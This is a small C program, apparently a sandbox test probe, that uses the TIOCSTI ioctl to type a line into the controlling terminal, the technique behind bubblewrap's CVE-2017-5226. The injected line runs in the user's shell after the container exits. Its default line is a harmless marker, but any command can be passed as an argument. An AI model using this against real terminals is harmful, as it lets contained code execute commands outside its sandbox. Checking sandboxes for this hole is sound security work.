/* Types a line into the terminal on stdin, stdout or stderr with TIOCSTI,
 * as bubblewrap's CVE-2017-5226 did: whoever reads that terminal next (the
 * user's shell, once the container has exited) reads the line as typed.
 * Prints how many bytes each descriptor took. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
	const char *line = argc > 1 ? argv[1] : "injected-by-container";
	for (int fd = 0; fd < 3; fd++) {
		int taken = 0, err = 0;
		for (const char *p = line; *p; p++) {
			if (ioctl(fd, TIOCSTI, p) == 0)
				taken++;
			else
				err = errno;
		}
		char nl = '\n';
		if (taken && ioctl(fd, TIOCSTI, &nl) == 0)
			taken++;
		fprintf(stderr, "fd %d: %d bytes typed, errno %d\n", fd, taken, err);
		if (taken)
			break;
	}
	return 0;
}
